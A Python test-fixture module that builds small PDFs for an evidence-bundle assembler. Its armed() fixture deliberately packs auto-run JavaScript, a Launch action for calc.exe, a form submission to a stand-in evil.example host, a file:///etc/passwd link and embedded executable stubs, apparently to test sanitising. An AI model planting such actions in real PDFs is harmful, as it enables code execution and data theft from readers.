"""Small PDFs with one trap each, and plans made of them."""

from pathlib import Path

import pikepdf
from django.template.loader import render_to_string
from pikepdf import Array, Dictionary, Name, Pdf, String

from evidence.bundles.assemble.front_matter import FrontPart
from evidence.bundles.assemble.layout import Layout
from evidence.bundles.assemble.plan import BundlePlan, Caption, PlannedItem
from evidence.core.hashing import sha256_of_file

CAPTION = Caption(
    court="United States District Court, Northern District of California",
    docket_number="5:25-cv-00709",
    case_caption="De La Torre v. LinkedIn Corporation",
)


def render(layout: Layout, part: FrontPart) -> str:
    """Return the HTML of the product's own templates."""
    return render_to_string("bundles/pdf/front.html", {"layout": layout, "part": part})


def blank(pages: int = 1, content: bytes = b"", size: tuple[int, int] = (612, 792)) -> Pdf:
    """Return pages that say which they are, with this content after the words."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=size)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        words = f"BT /F1 12 Tf 72 {size[1] - 72} Td (original {number}) Tj ET\n".encode()
        page.Contents = pdf.make_stream(words + content)
    return pdf


def armed() -> Pdf:
    """Return a PDF that would act in every way it can, with a form, a file and a film."""
    pdf = blank(2)
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"), Next=script)
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
    pdf.attachments["payload.exe"] = b"MZ payload"
    actions = [
        script,
        launch,
        pdf.make_indirect(Dictionary(S=Name.SubmitForm, F=String("http://evil.example/"))),
        Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        Dictionary(S=Name.URI, URI=String("https://example.test/kept")),
    ]
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=launch)
    page.Annots = Array([_link(action) for action in actions])
    stream = pdf.make_stream(b"secret bytes", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
    page.Annots.append(
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec)
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("who"), V=String("me"),
            Rect=Array([72, 600, 200, 620]), AA=Dictionary(K=script),
        )
    )  # fmt: skip
    page.Annots.append(field)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=String("<xdp/>"))
    return pdf


def linked() -> Pdf:
    """Return three pages whose first links to the third, by page and by name."""
    pdf = blank(3)
    third = pdf.pages[2].obj
    pdf.Root.Names = Dictionary(
        Dests=Dictionary(Names=Array([String("end"), Array([third, Name.Fit])]))
    )
    annotations = [_link(None), _link(None)]
    annotations[0].Dest = Array([third, Name.Fit])
    annotations[1].Dest = String("end")
    pdf.pages[0].obj.Annots = Array(annotations)
    return pdf


def layered() -> Pdf:
    """Return a page with a black square on a layer that its author switched off."""
    pdf = blank(1, b"/OC /hidden BDC 0 g 100 300 300 300 re f EMC\n")
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Draft")))
    pdf.pages[0].obj.Resources.Properties = Dictionary(hidden=layer)
    pdf.Root.OCProperties = Dictionary(
        OCGs=Array([layer]), D=Dictionary(OFF=Array([layer]), Order=Array([layer]))
    )
    return pdf


def _link(action: Dictionary | None) -> Dictionary:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 72, 99, 99]))
    if action is not None:
        annotation.A = action
    return annotation


def item(path: Path, label: str, pdf: Pdf, **more: object) -> PlannedItem:
    """Save a PDF and return it as a planned exhibit."""
    pages = len(pdf.pages)
    saved = path / f"{label}.pdf"
    pdf.save(saved, **more.pop("how", {}))
    named = {"title": f"What {label} shows", "file_name": saved.name, **more}
    return PlannedItem(
        label=label, pdf_path=saved, sha256=sha256_of_file(saved), page_count=pages, **named
    )


def plan_of(*items: PlannedItem, **more: object) -> BundlePlan:
    """Return a plan of these exhibits."""
    return BundlePlan(title="Exhibits", caption=CAPTION, items=items, **more)
